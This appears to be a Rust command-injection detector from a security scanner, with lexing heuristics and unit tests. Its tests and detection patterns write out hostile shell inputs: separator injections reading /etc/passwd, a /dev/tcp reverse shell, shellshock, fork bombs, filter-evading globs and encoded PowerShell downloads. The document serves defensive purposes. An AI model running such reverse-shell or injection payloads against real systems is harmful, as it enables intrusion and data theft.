//! Command injection: a value that ends its place in a shell line and begins a command of its own.
//!
//! A small shell lexer finds the places where a command can begin: behind a separator, a substitution, a
//! newline. What stands there is read as a shell reads it (quotes and empty expansions inside a word vanish) and
//! looked up. A word that is also English counts only with a flag, a path or a tight separator; a line that
//! begins with a command of its own is what developers type, and is judged only by what no developer does.

mod words;

use super::finding::{Hit, Rule, Severity, ThreatType};
use crate::text::cursor::{at, find_byte, floor, has_word, is_word, part, skip, skip_most};
use crate::text::glance::Glance;
use words::Class;

const fn rule(id: &'static str, severity: Severity, message: &'static str) -> Rule {
    Rule::new(id, ThreatType::CommandInjection, severity, "CWE-78", message)
}

static SEPARATOR: Rule = rule("command.separator", Severity::High, "a separator begins a command of its own");
static SUBSTITUTION: Rule = rule("command.substitution", Severity::High, "a substitution runs a command");
static SHELL: Rule = rule(
    "command.remote_shell",
    Severity::Critical,
    "a command that hands a shell to the network or destroys the system",
);
static CALL: Rule = rule("command.system_call", Severity::High, "a call that runs a shell command");
static BATCH: Rule = rule("command.batch", Severity::Medium, "a line of a Windows batch file");
static DISGUISED: Rule =
    rule("command.disguised", Severity::High, "a command spelled so that a filter does not see it");
static BARE: Rule =
    rule("command.bare", Severity::Medium, "a command that explores or delays, where data is expected");
static PROTOCOL: Rule =
    rule("command.mail_protocol", Severity::Medium, "a line break and a command of a mail protocol");

/// Finds commands where data is expected.
pub(super) fn detect(glance: &Glance<'_>, hits: &mut Vec<Hit>, steps: &mut u64) {
    let text = glance.text;
    *steps += text.len() as u64;
    let before = hits.len();
    calls(glance, hits);
    remote(glance, hits);
    separators(glance, hits, steps);
    if hits.len() == before {
        batch(text, hits);
        disguised(glance, hits);
        bare(text, hits);
        protocol(text, hits);
    }
}

/// Finds only what hands over the machine, for a string inside a source file.
pub(super) fn detect_strict(glance: &Glance<'_>, hits: &mut Vec<Hit>, steps: &mut u64) {
    let text = glance.text;
    *steps += text.len() as u64;
    remote(glance, hits);
    let mut found = Vec::new();
    let start = text.trim_start_matches(['"', '\'', ' ', '\\', 'n']);
    // A script substitutes all day; exploring the machine or fetching something is another matter.
    let explores = || glance.contains_any(&["whoami", "/etc/", "curl ", "wget ", "uname -a", "/dev/tcp"]);
    if start.starts_with([';', '|', '&']) || (start.starts_with('`') || text.starts_with("$(")) && explores()
    {
        separators(glance, &mut found, steps);
    }
    if start.starts_with([';', '|', '&'])
        || text.starts_with("() {") && (text.contains(";};") || text.contains("; };"))
    {
        calls(glance, &mut found);
    }
    hits.extend(found.into_iter().filter(|hit| hit.confidence >= 0.8));
}

/// What follows a command's word.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Argument {
    /// Nothing, or the next separator.
    End,
    /// A flag, a path, a URL, a quoted string, a redirection, an expansion, a number.
    Typical,
    /// Another word.
    Plain,
}

struct Command {
    class: Class,
    end: usize,
    /// Whether quotes, backslashes or empty expansions were taken out of the word.
    disguised: bool,
    /// Whether a path stood in front of the word.
    rooted: bool,
}

/// The command that begins at a position, behind blanks and quotes.
fn command(text: &str, from: usize) -> Option<Command> {
    let bytes = text.as_bytes();
    let mut start = from;
    loop {
        start = skip(bytes, start, |byte| {
            matches!(
                byte,
                b' ' | b'\t' | b'\r' | b'\n' | b'"' | b'\'' | b'(' | b'{' | b'@' | b'!' | b',' | b'|'
            )
        });
        if matches!(at(bytes, start), b'\\')
            && matches!(at(bytes, start + 1), b'n' | b'r' | b't')
            && !is_word(at(bytes, start + 2))
        {
            start += 2;
        } else if at(bytes, start) == b'$' && matches!(at(bytes, start + 1), b'"' | b'\'') {
            start += 1;
        } else if at(bytes, start) == b'$' && at(bytes, start + 1).is_ascii_alphabetic() && start == from {
            // `;$u wget x`: a variable that is empty vanishes.
            let end = skip(bytes, start + 1, |byte| byte.is_ascii_alphanumeric() || byte == b'_');
            if at(bytes, end) != b' ' || end - start > 3 {
                break;
            }
            start = end;
        } else {
            break;
        }
    }
    let mut word = String::new();
    let mut disguised = false;
    let mut quotes = 0;
    let mut index = start;
    while index < bytes.len() && index - start < 64 {
        match at(bytes, index) {
            byte if byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'_' | b'-' | b':') => {
                word.push(byte as char)
            }
            b'\\' if is_word(at(bytes, index + 1)) && word.len() < 3 || at(bytes, index + 1) == b'\\' => {
                // `c\at` is `cat`, `C:\x\cmd` a path.
                if word.ends_with(':') || word.contains('/') { word.push('/') } else { disguised = true }
            }
            b'\\' if word.contains(':') => word.push('/'),
            b'\'' | b'"'
                if is_word(at(bytes, index + 1))
                    || is_word(at(bytes, index.wrapping_sub(1))) && index > start =>
            {
                quotes += 1;
                let closes = !is_word(at(bytes, index + 1));
                if closes && !word.is_empty() {
                    index += 1;
                    continue;
                }
                disguised |= !word.is_empty();
            }
            b'$' if matches!(at(bytes, index + 1), b'@' | b'*' | b'$' | b'-' | b'!' | b'#' | b'?') => {
                disguised = true;
                index += 1;
            }
            b'$' if at(bytes, index + 1) == b'{' && !word.is_empty() => break,
            _ => break,
        }
        index += 1;
    }
    // One apostrophe is English.
    disguised &=
        quotes != 1 || at(bytes, start.wrapping_sub(1)) == b'\'' || at(bytes, start.wrapping_sub(1)) == b'"';
    let lower = word.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or("");
    // `bcdboot/r`: a Windows switch without a blank.
    let (lower, name) = match lower.split_once('/') {
        Some((front, _)) if words::class(front) == Some(Class::Sharp) => (front, front),
        _ => (lower.as_str(), name),
    };
    let rooted = lower.len() > name.len()
        && (lower.starts_with('/') || lower.contains("bin/") || lower.contains(":/"));
    let name = name.strip_suffix(".exe").unwrap_or(name);
    let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let class = words::class(name).or_else(|| words::class(bare))?;
    // `id=7` is a parameter, `set.add` a member, `find(x)` a call in code.
    let next = at(bytes, index);
    if next == b'='
        || next == b'('
        || next == b':'
        || lower.contains('.') && !lower.contains('/') && !name.starts_with(bare)
    {
        return None;
    }
    Some(Command { class, end: index, disguised, rooted })
}

fn argument(text: &str, end: usize) -> Argument {
    let bytes = text.as_bytes();
    let from = skip(bytes, end, |byte| matches!(byte, b' ' | b'\t' | b'"' | b'\'' | b'+' | b'\\'));
    let byte = at(bytes, from);
    let word = skip(bytes, from, |byte| !byte.is_ascii_whitespace());
    let token = part(text, from..word);
    if from >= bytes.len() || matches!(byte, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'}') {
        return Argument::End;
    }
    let quoted = from > end && matches!(at(bytes, from - 1), b'"' | b'\'') && at(bytes, end) == b' ';
    let typical = matches!(
        byte,
        b'-' | b'/' | b'~' | b'$' | b'<' | b'>' | b'%' | b'*' | b'0'..=b'9' | b'[' | b'{' | b'!'
    ) || quoted
        || token.contains("://")
        || token.contains('/')
        || token.contains(":\\")
        || token.contains('.') && token.find('.').is_some_and(|dot| is_word(at(token.as_bytes(), dot + 1)))
        || token.contains('@')
        || words::class(&token.to_ascii_lowercase()) == Some(Class::Sharp);
    if typical { Argument::Typical } else { Argument::Plain }
}

/// Commands behind separators, line breaks and inside substitutions.
fn separators(glance: &Glance<'_>, hits: &mut Vec<Hit>, steps: &mut u64) {
    if !glance.has_any(b";\n|&\\`$<>'\"{") {
        return;
    }
    let text = glance.text;
    let bytes = text.as_bytes();
    let mut left = 0;
    let mut index = 0;
    // A line that begins as a command line is one to its end.
    let mut shell_line = false;
    while index < bytes.len() {
        *steps += 1;
        let byte = at(bytes, index);
        let next = at(bytes, index + 1);
        let (rule, width) = match byte {
            b';' | b'\n' => (&SEPARATOR, 1),
            b'|' | b'&' => (&SEPARATOR, 1 + usize::from(next == byte)),
            b'\\'
                if matches!(next, b'n' | b'r')
                    && (index == 0 || !is_word(at(bytes, index - 1)))
                    && !is_word(at(bytes, index + 3)) =>
            {
                (&SEPARATOR, 2)
            }
            b'`' => (&SUBSTITUTION, 1),
            b'$' if next == b'(' => (&SUBSTITUTION, 2),
            b'<' | b'>' if next == b'(' => (&SUBSTITUTION, 2),
            b'\'' | b'"' if index == 0 && matches!(next, b' ' | b'i' | b'/') => (&SEPARATOR, 1),
            b'{' if next != b'{'
                && !at(bytes, index.wrapping_sub(1)).is_ascii_alphanumeric()
                && at(bytes, index.wrapping_sub(1)) != b'$' =>
            {
                (&DISGUISED, 1)
            }
            _ => {
                index += 1;
                continue;
            }
        };
        let from = index + width;
        shell_line =
            byte != b'\n' && (shell_line || rule.id == SEPARATOR.id && is_shell_line(text, left, index));
        if !shell_line && let Some(sure) = judge(text, left, index, from, rule) {
            let end = skip(bytes, from, |byte| !matches!(byte, b'\n')).min(floor(text, index + 256));
            hits.push(Hit::new(rule, index..end, sure));
            index = end.max(from);
        } else {
            index = from;
        }
        left = from;
    }
}

/// How sure a command begins behind a separator.
fn judge(text: &str, left: usize, sign: usize, from: usize, rule: &'static Rule) -> Option<f32> {
    let bytes = text.as_bytes();
    let found = command(text, from)?;
    let arguments = argument(text, found.end);
    let tight = from < bytes.len() && !at(bytes, from).is_ascii_whitespace();
    let separator = at(bytes, sign);
    if rule.id == DISGUISED.id {
        // `{cat,/etc/passwd}`: a brace expansion instead of blanks.
        return (at(bytes, found.end) == b','
            && at(bytes, skip_most(bytes, found.end, 128, |byte| byte != b'}' && byte != b' ')) == b'}')
            .then_some(0.9);
    }
    if rule.id == SUBSTITUTION.id {
        let harmless = matches!(found.class, Class::Developer)
            || [
                "pwd", "date", "dirname", "basename", "hostname", "which", "nproc", "uname", "cat", "id -u",
                "ls", "head", "find",
            ]
            .iter()
            .any(|word| has_word(bytes, from, word))
                && separator != b'`'
                && is_shell_line(text, left.min(sign), sign);
        let closed = separator != b'`'
            || find_byte(bytes, from, b'`').is_some_and(|end| end - from < 512)
            || at(bytes, sign.wrapping_sub(1)) == b';';
        let believed = found.class == Class::Sharp || found.rooted || arguments != Argument::Plain && tight;
        return (!harmless && closed && believed && !is_shell_line(text, 0, sign)).then_some(0.85);
    }
    if found.class == Class::Developer || is_table(text, sign) {
        return None;
    }
    // `&copy;` is a character.
    if separator == b'&' && tight && at(bytes, found.end) == b';' {
        return None;
    }
    let line_break = separator == b'\n';
    let empty = part(text, left..sign).trim().is_empty();
    // A new line begins a command only if it cannot be the next sentence or the next line of code.
    if line_break {
        let alone =
            part(text, from..text.len()).lines().next().unwrap_or("").trim().len() <= found.end - from + 2;
        let probing = found.rooted
            || arguments == Argument::Typical && reads_system(text, found.end)
            || alone && (empty && text.len() < 32 || found.class == Class::Sharp && text.len() < 48);
        return probing.then_some(0.75);
    }
    if matches!(separator, b'\'' | b'"') {
        return (found.class == Class::Sharp && arguments == Argument::End
            || found.class == Class::English && text.len() <= 6 && text.ends_with(['\'', '"']))
        .then_some(0.6);
    }
    let glued = at(bytes, sign.wrapping_sub(1));
    // `string|date` is a type, `a&id=1` a parameter.
    let typed =
        separator == b'|' && width_one(bytes, sign) && is_word(glued) && !has_trailing(bytes, found.end);
    match (found.class, arguments) {
        (_, _) if found.rooted || found.disguised => Some(0.95),
        (Class::Sharp, Argument::End) => Some(if tight || empty { 0.9 } else { 0.7 }),
        (Class::Sharp, Argument::Typical) => Some(0.9),
        (Class::English, Argument::Typical) if !is_code(text, found.end) => {
            Some(if empty || tight { 0.85 } else { 0.6 })
                .filter(|_| empty || tight || separator != b'&' || strong(text, found.end))
        }
        (Class::English, Argument::End) if (tight && !typed || empty && sign < 4) && glued != b' ' => (tight
            || empty && text.trim().len() < 16)
            .then_some(0.75)
            .filter(|_| !is_code_end(text, found.end)),
        (Class::Sharp, Argument::Plain)
            if empty && sign < 4 || words::class(part(text, left..sign).trim()) == Some(Class::English) =>
        {
            Some(0.7)
        }
        (Class::English, Argument::Plain) if empty && sign < 3 && known_argument(text, found.end) => {
            Some(0.7)
        }
        _ => None,
    }
}

/// Arguments that make a plain word a command: `net view`, `cat ET`, `echo <…`.
fn known_argument(text: &str, end: usize) -> bool {
    let rest = part(text, end..floor(text, end + 64)).trim_start().to_ascii_lowercase();
    ["view", "user", "localgroup", "share", "start", "accounts", "use "]
        .iter()
        .any(|word| rest.starts_with(word))
        || rest.contains(":\\")
}

fn width_one(bytes: &[u8], sign: usize) -> bool {
    at(bytes, sign + 1) != at(bytes, sign) && at(bytes, sign.wrapping_sub(1)) != at(bytes, sign)
}

fn has_trailing(bytes: &[u8], end: usize) -> bool {
    matches!(
        at(bytes, skip(bytes, end, |byte| matches!(byte, b' ' | b'"' | b'\''))),
        b'|' | b';' | b'&' | b'\\'
    )
}

/// A flag or a path of the system, not just any word with a dot.
fn strong(text: &str, end: usize) -> bool {
    let rest = part(text, end..text.len()).trim_start();
    rest.starts_with(['-', '/', '%', '~', '\\', '<', '>', '$'])
        || rest.starts_with(|c: char| c.is_ascii_digit())
}

/// Whether what follows reads as code: a call, an assignment, a member.
fn is_code(text: &str, end: usize) -> bool {
    let rest = part(text, end..floor(text, end + 80));
    let line = rest.split(['\n', ';', '|', '&']).next().unwrap_or("");
    let trimmed = line.trim_start();
    trimmed.starts_with(['=', '>', '<', '*', '+', '?', '%', '!'])
        && trimmed.get(1..2).is_some_and(|next| next == "=" || next == " ")
        || line.contains(" = ")
        || line.contains("==")
        || trimmed.starts_with("- ")
        || trimmed.starts_with("/ ")
        || line.trim_end().ends_with([')', '{', ',']) && line.contains('(') && !line.contains('\'')
}

fn is_code_end(text: &str, end: usize) -> bool {
    let rest = part(text, end..floor(text, end + 200));
    rest.starts_with([')', '}']) && !rest.starts_with(");") || rest.starts_with(";") && rest.contains('\n')
}

/// Whether the arguments of a command reach for the system.
fn reads_system(text: &str, end: usize) -> bool {
    let line = part(text, end..text.len()).lines().next().unwrap_or("");
    ["/etc/", "/proc/", "/var/", "/root", "/home/", "/dev/", "C:\\"].iter().any(|path| line.contains(path))
}

/// Whether what stands left of a separator is itself a command line, as developers type and quote them.
fn is_shell_line(text: &str, left: usize, sign: usize) -> bool {
    let segment = part(text, crate::text::cursor::ceil(text, sign.saturating_sub(200).max(left))..sign);
    let line = segment.rsplit('\n').next().unwrap_or("");
    let mut words =
        line.split_whitespace().map(|word| word.trim_matches(['`', '"', '\'', '$', '(', '>', ':']));
    let first = words.next().unwrap_or("");
    let known = |word: &str| words::class(word).is_some() || word.starts_with("./") && word.len() > 2;
    let many = line.split_whitespace().count() > 1;
    (known(first)
        && (many || words::class(first) != Some(Class::English) || at(text.as_bytes(), sign) == b'|')
        && first != "time")
        || words.any(|word| known(word) && words::class(word) != Some(Class::English))
        || line.contains('=')
            && many
            && line.split('=').next().is_some_and(|name| {
                !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_')
            })
}

/// Whether a pipe belongs to a table of Markdown.
fn is_table(text: &str, sign: usize) -> bool {
    let bytes = text.as_bytes();
    if at(bytes, sign) != b'|' {
        return false;
    }
    let from = crate::text::cursor::ceil(text, sign.saturating_sub(1_000));
    let start = part(text, from..sign).rfind('\n').map_or(from, |line| from + line + 1);
    let end = skip_most(bytes, sign, 1_000, |byte| byte != b'\n');
    let line = part(text, start..floor(text, end)).trim();
    line.len() > 2
        && line.starts_with('|')
        && (line.ends_with('|') && (line.contains(" | ") || line.starts_with("| ") || line.contains("---"))
            || line.matches(" | ").count() >= 2)
}

/// Calls that run a shell: `system('…')`, shellshock, server-side includes, PHP.
fn calls(glance: &Glance<'_>, hits: &mut Vec<Hit>) {
    let text = glance.text;
    let bytes = text.as_bytes();
    let whole = 0..text.len().min(floor(text, 512));
    let trimmed = text.trim_start_matches(|c: char| {
        c.is_whitespace() || matches!(c, ';' | '|' | '&' | '"' | '\'' | '{' | '$' | '@' | '`' | ':')
    });
    let offset = text.len() - trimmed.len();
    if glance.find("() {").is_some_and(|start| start < 8 && part(text, start..text.len()).contains("};")) {
        hits.push(Hit::new(&SHELL, whole, 0.97));
        return;
    }
    if has_word(bytes, offset, "<!--#exec") || glance.find("<!--#exec").is_some() {
        hits.push(Hit::new(&CALL, whole, 0.95));
        return;
    }
    if glance.may_hold("()") && is_fork_bomb(text) {
        hits.push(Hit::new(&SHELL, whole, 0.9));
        return;
    }
    if glance.find("${@").is_some_and(|start| part(text, start..text.len()).contains('(')) {
        hits.push(Hit::new(&CALL, whole, 0.8));
        return;
    }
    let php = glance.find("<?php").is_some() || glance.find("<?=").is_some();
    for name in [
        "system(",
        "exec(",
        "passthru(",
        "shell_exec(",
        "popen(",
        "phpinfo(",
        "phpversion(",
        "eval(",
        "proc_open(",
        "pcntl_exec(",
        "sleep(",
        "assert(",
    ] {
        let php_call = php && glance.find(name).is_some();
        if !php_call && !has_word(bytes, offset, name) {
            continue;
        }
        let inner = trimmed.get(name.len()..).unwrap_or("").trim_start();
        let braced = offset >= 2 && text.starts_with("{$");
        let shell = inner.starts_with(['\'', '"'])
            && !matches!(command(inner, 1).map(|found| found.class), Some(Class::Developer))
            && (command(inner, 1).is_some() || name != "exec(" || inner.contains('/'));
        let info = matches!(name, "phpinfo(" | "phpversion(");
        if php_call
            || info
            || shell && name != "sleep(" && trimmed.len() < 4_096
            || name == "sleep(" && braced
        {
            hits.push(Hit::new(&CALL, whole, 0.85));
            return;
        }
    }
}

/// A function that starts itself twice: `f(){ f|f& };f`.
fn is_fork_bomb(text: &str) -> bool {
    let Some(open) = text.find("()").filter(|open| (1..=24).contains(open)) else { return false };
    let name = part(text, 0..open).trim();
    let body = part(text, open + 2..text.len()).trim_start();
    let Some((body, rest)) = body.strip_prefix('{').and_then(|body| body.split_once('}')) else {
        return false;
    };
    let calls = body
        .split(|c: char| c.is_whitespace() || matches!(c, '|' | '&' | ';' | '(' | ')'))
        .filter(|word| *word == name)
        .count();
    !name.is_empty() && calls >= 2 && body.contains('&') && rest.contains(name)
}

/// What no developer types: reverse shells, a root deleted, a fork bomb.
fn remote(glance: &Glance<'_>, hits: &mut Vec<Hit>) {
    let text = glance.text;
    let bytes = text.as_bytes();
    let has = |word: &str| glance.find(word);
    let found = has("/dev/tcp/")
        .or_else(|| has("/dev/udp/"))
        .or_else(|| {
            has("nc ").filter(|start| {
                (*start == 0 || !is_word(at(bytes, start - 1))) && {
                    let rest = part(text, *start..floor(text, start + 120));
                    rest.contains(" -e ")
                        || rest.contains(" -c ") && rest.contains("/bin/")
                        || rest.contains("e /bin/")
                }
            })
        })
        .or_else(|| has("mkfifo ").filter(|start| part(text, *start..text.len()).contains("nc ")))
        .or_else(|| has("bash -i").filter(|start| part(text, *start..floor(text, start + 40)).contains(">&")))
        .or_else(|| {
            has("use socket").filter(|start| {
                let rest = part(text, *start..text.len());
                rest.contains("/bin/sh") || rest.contains("exec(")
            })
        })
        .or_else(|| has("| rev | sh").or_else(|| has("|rev|sh")).or_else(|| has("| xxd -r -p | sh")))
        .or_else(|| has(":(){"))
        .or_else(|| {
            has("rm -rf / ")
                .or_else(|| has("rm -rf /*"))
                .or_else(|| text.trim_end().ends_with("rm -rf /").then(|| text.len() - 8))
        })
        .or_else(|| {
            has("base64 -d").filter(|start| {
                let rest = part(text, *start..floor(text, start + 60));
                rest.contains("| sh")
                    || rest.contains("|sh")
                    || rest.contains("| bash")
                    || rest.contains("|bash")
            })
        })
        .or_else(|| {
            has("powershell").filter(|start| {
                let rest = part(text, *start..floor(text, start + 160)).to_ascii_lowercase();
                rest.contains("downloadstring") || rest.contains(" -enc") || rest.contains("-encodedcommand")
            })
        });
    if let Some(start) = found {
        let end = skip(bytes, start, |byte| byte != b'\n').min(floor(text, start + 256));
        hits.push(Hit::new(&SHELL, start..end, 0.95));
    }
}

/// `FOR %i IN (…) DO …` and `IF EXIST …` of Windows batch files.
fn batch(text: &str, hits: &mut Vec<Hit>) {
    let start = text.len() - text.trim_start_matches([' ', '|', '&', ';', '"', '\'']).len();
    let head = part(text, start..floor(text, start + 300));
    let opener = head.trim_start().as_bytes();
    if !has_word(opener, 0, "for") && !has_word(opener, 0, "if") {
        return;
    }
    let lower = head.to_ascii_lowercase();
    let words: Vec<&str> = lower.split_whitespace().take(12).collect();
    let worded = words.iter().any(|word| matches!(*word, "equ" | "neq" | "geq" | "gtr" | "leq" | "lss"));
    let loops = words.first() == Some(&"for")
        && words.iter().skip(1).any(|word| word.starts_with('%') && word.len() <= 12)
        && words.iter().any(|word| word.starts_with("in"))
        && lower.contains('(');
    let second = words.get(1).copied().unwrap_or("");
    let third = words.get(2).copied().unwrap_or("");
    let python = head.trim_end().ends_with(':') || head.contains('{') || head.contains(" then");
    let command = lower.split_whitespace().any(|word| {
        let word = word.trim_start_matches('(');
        matches!(
            word.trim_end_matches(')'),
            "echo" | "goto" | "set" | "cd" | "exit" | "call" | "start" | "foo" | "type" | "del" | "copy"
        )
    });
    let compared =
        ["==", " equ ", " neq ", " geq ", " gtr ", " leq ", " lss "].iter().any(|sign| lower.contains(sign));
    let tests = words.first() == Some(&"if")
        && !python
        && (second == "/i"
            || (second == "not" && matches!(third, "exist" | "defined" | "errorlevel" | "cmdextversion"))
            || worded && command
            || second == "not" && third.contains("==") && command
            || lower.contains("\"%~")
            || matches!(second, "exist" | "defined" | "cmdextversion" | "errorlevel")
                && (command || lower.contains('('))
            || compared
                && (lower.contains('%') || second.starts_with('"') || lower.starts_with("if x%"))
                && (command || lower.ends_with('(')));
    if loops || tests {
        hits.push(Hit::new(&BATCH, start..start + head.len(), 0.75));
    }
}

/// Paths and words spelled with wildcards, empty expansions and field separators.
fn disguised(glance: &Glance<'_>, hits: &mut Vec<Hit>) {
    let text = glance.text;
    let field = glance.find("$ifs").or_else(|| glance.find("${ifs"));
    let here = glance.find("<<<").filter(|start| {
        command(text, part(text, 0..*start).rfind([' ', ';', '`', '|', '(']).map_or(0, |left| left + 1))
            .is_some()
    });
    if let Some(start) = field.or(here) {
        hits.push(Hit::new(&DISGUISED, start..floor(text, start + 64).max(start), 0.8));
        return;
    }
    if !(glance.has(b'/') && glance.has_any(b"?*[")) {
        return;
    }
    for token in text.split_whitespace().take(4_096) {
        if let Some(slash) = token.find('/')
            && token.len() < 200
            && !token.contains("://")
            && is_globbed(&without_slashes(part(token, slash..token.len())))
        {
            let start = token.as_ptr() as usize - text.as_ptr() as usize;
            hits.push(Hit::new(&DISGUISED, start..start + token.len(), 0.85));
            return;
        }
    }
}

/// A path in lower case, its brackets without the slashes that a shell ignores in them.
fn without_slashes(path: &str) -> String {
    let mut inside = false;
    let mut plain = path.to_ascii_lowercase();
    plain.retain(|c| {
        inside = (inside || c == '[') && c != ']';
        !(inside && c == '/')
    });
    plain.replace("[?]", "?")
}

/// Whether a path hides a name of the system behind wildcards: `/???/b??h`, `/et*/pa[s]swd`.
fn is_globbed(path: &str) -> bool {
    const NAMES: &[&str] = &["etc", "bin", "usr", "sbin", "passwd", "shadow", "bash", "cat", "hosts", "dev"];
    let hidden = |name: &str| {
        let wild = name.bytes().any(|byte| matches!(byte, b'?' | b'*' | b'['));
        let letters = name.bytes().filter(u8::is_ascii_alphanumeric).count();
        wild && (letters > 0 || name.len() == 3 && name == "???")
            && !name.contains('.')
            && NAMES.iter().any(|known| matches_glob(name.as_bytes(), known.as_bytes()))
    };
    path.split('/').skip(1).filter(|name| hidden(name)).count() >= 1 && path.starts_with('/')
}

/// Whether a glob with `?`, `*` and `[…]` matches a name. Both are a few bytes long.
fn matches_glob(glob: &[u8], name: &[u8]) -> bool {
    match (glob.first(), name.first()) {
        (None, None) => true,
        (Some(b'*'), _) => {
            let rest = glob.get(1..).unwrap_or_default();
            matches_glob(rest, name)
                || !name.is_empty()
                    && glob.len() <= 12
                    && matches_glob(glob, name.get(1..).unwrap_or_default())
        }
        (Some(b'?'), Some(_)) => {
            matches_glob(glob.get(1..).unwrap_or_default(), name.get(1..).unwrap_or_default())
        }
        (Some(b'['), Some(byte)) => {
            let close = glob.iter().position(|sign| *sign == b']').unwrap_or(0);
            let set = glob.get(1..close).unwrap_or_default();
            let (negated, set) = match set.split_first() {
                Some((b'!' | b'^', rest)) => (true, rest),
                _ => (false, set),
            };
            close > 1
                && set.contains(byte) != negated
                && matches_glob(glob.get(close + 1..).unwrap_or_default(), name.get(1..).unwrap_or_default())
        }
        (Some(sign), Some(byte)) => {
            sign == byte && matches_glob(glob.get(1..).unwrap_or_default(), name.get(1..).unwrap_or_default())
        }
        _ => false,
    }
}

/// A short text that is a command of exploration or delay, and nothing else.
fn bare(text: &str, hits: &mut Vec<Hit>) {
    let trimmed = text.trim();
    if trimmed.len() > 200 || trimmed.contains('\n') {
        return;
    }
    let offset = text.len() - text.trim_start().len();
    let shell = trimmed.starts_with("$[")
        || trimmed.starts_with("$((")
        || trimmed.strip_prefix("${").is_some_and(|rest| {
            rest.trim_start_matches(|c: char| c.is_ascii_alphanumeric()).starts_with("#{")
        })
        || trimmed.starts_with("${SHELL}");
    let dotted = trimmed.contains(";\\n.") || trimmed.contains(";.") && trimmed.contains("shell");
    if shell || dotted {
        hits.push(Hit::new(&DISGUISED, offset..offset + trimmed.len(), 0.6));
        return;
    }
    let Some(found) = command(trimmed, 0) else { return };
    if found.disguised && argument(trimmed, found.end) != Argument::End && !trimmed.starts_with('`') {
        hits.push(Hit::new(&DISGUISED, offset..offset + trimmed.len(), 0.7));
        return;
    }
    let rest = part(trimmed, found.end..trimmed.len()).trim();
    let mut words = rest.split_whitespace();
    let first = words.next().unwrap_or("");
    let head = part(trimmed, 0..found.end).to_ascii_lowercase();
    let name =
        head.rsplit('/').next().unwrap_or("").trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let hostile = match name {
        _ if found.rooted
            && found.class != Class::Developer
            && (head.starts_with('/') || head.starts_with("bin/")) =>
        {
            rest.is_empty() || first.starts_with('-')
        }
        "perl" | "ruby" => first == "-e",
        "php" => first == "-r",
        "nc" | "ncat" | "netcat" => first.starts_with('-') && (first.contains('l') || first.contains('e')),
        "whoami" | "ifconfig" | "systeminfo" | "sysinfo" => rest.is_empty(),
        "sleep" => !rest.is_empty() && rest.bytes().all(|byte| byte.is_ascii_digit()),
        "netstat" | "uname" => first.starts_with('-') && rest.len() <= 5,
        "net" => matches!(first, "user" | "localgroup" | "view" | "share" | "accounts"),
        "reg" => matches!(first, "add" | "delete" | "query" | "save"),
        "ls" if matches!(rest, "-l /" | "-la /" | "-l /tmp") => true,
        "netsh" => rest.contains("firewall"),
        "type" | "dir" => {
            rest.starts_with('%')
                || rest.contains(":\\")
                || rest.is_empty() && name == "dir" && trimmed.len() == text.len()
        }
        "cat" | "ls" | "head" | "tail" | "more" | "less" | "find" | "ll" | "cp" => {
            reads_system(trimmed, found.end)
                && !rest.contains("/home/user/")
                && !rest.contains('|')
                && !rest.contains("/var/log")
                && !rest.contains("/dev/null")
        }
        "nohup" | "strace" | "ltrace" | "cpulimit" | "timeout" | "time" | "watch" => {
            words.next_back().or(Some(first)).is_some_and(|last| {
                matches!(last, "whoami" | "ifconfig" | "who" | "id" | "uname" | "netstat")
                    || rest == last && words::class(last) == Some(Class::Sharp)
            })
        }
        _ => false,
    };
    if hostile {
        hits.push(Hit::new(&BARE, offset..offset + trimmed.len(), 0.6));
    }
}

/// A value that begins with a line break and a command of SMTP, IMAP or POP3.
fn protocol(text: &str, hits: &mut Vec<Hit>) {
    let Some(line) = text.strip_prefix("\r\n") else { return };
    let line = line.lines().next().unwrap_or("");
    let mut words = line.split_whitespace();
    let first = words.next().unwrap_or("");
    let second = words.next().unwrap_or("");
    const VERBS: &[&str] = &[
        "HELO", "EHLO", "MAIL", "RCPT", "DATA", "RSET", "VRFY", "EXPN", "NOOP", "QUIT", "AUTH", "STARTTLS",
        "HELP", "TURN", "ETRN", "USER", "PASS", "RETR", "DELE", "STAT", "STLS", "LIST", "TOP", "UIDL",
        "APOP", "CAPA",
    ];
    const TAGGED: &[&str] = &[
        "login",
        "authenticate",
        "select",
        "examine",
        "create",
        "delete",
        "rename",
        "subscribe",
        "unsubscribe",
        "list",
        "lsub",
        "status",
        "append",
        "check",
        "close",
        "expunge",
        "search",
        "fetch",
        "store",
        "copy",
        "uid",
        "capability",
        "noop",
        "logout",
        "starttls",
        "idle",
    ];
    let tag = first.len() <= 6 && !first.is_empty() && first.bytes().all(|byte| byte.is_ascii_alphanumeric());
    if VERBS.contains(&first) || tag && TAGGED.contains(&second.to_ascii_lowercase().as_str()) {
        hits.push(Hit::new(&PROTOCOL, 0..text.len().min(floor(text, 256)), 0.6));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::threat::rules;

    fn found(text: &str) -> Option<&'static str> {
        rules(detect, text).next()
    }

    #[test]
    fn commands_in_values_are_found() {
        assert_eq!(found("127.0.0.1; cat /etc/passwd"), Some("command.separator"));
        assert_eq!(found("a;id"), Some("command.separator"));
        assert_eq!(found("x | whoami"), Some("command.separator"));
        assert_eq!(found("$(whoami)"), Some("command.substitution"));
        assert_eq!(found("`id`"), Some("command.substitution"));
        assert_eq!(found("x;c\\at /x"), Some("command.separator"));
        assert_eq!(found("{cat,/etc/hosts}"), Some("command.disguised"));
        assert_eq!(found("cat$IFS/x"), Some("command.disguised"));
        assert_eq!(found("/???/b??h"), Some("command.disguised"));
        assert_eq!(found("bash -i >& /dev/tcp/10.0.0.1/80 0>&1"), Some("command.remote_shell"));
        assert_eq!(found("() { :;}; echo x"), Some("command.remote_shell"));
        assert_eq!(found("system('id');"), Some("command.system_call"));
        assert_eq!(found("FOR %i IN (1,2) DO echo %i"), Some("command.batch"));
    }

    #[test]
    fn what_developers_type_is_left_alone() {
        for text in [
            "npm install && npm test",
            "cd src && ls -la | grep foo",
            "git log --oneline | head -5",
            "run ps aux | grep node; then kill it",
            "if (a && b || c) { return; }",
            "first sort them; then find the last",
            "| id | name |\n|----|------|\n| 1 | x |",
            "type A = string|date",
            "curl -s https://example.org | jq .",
            "x > 5 && y < 3",
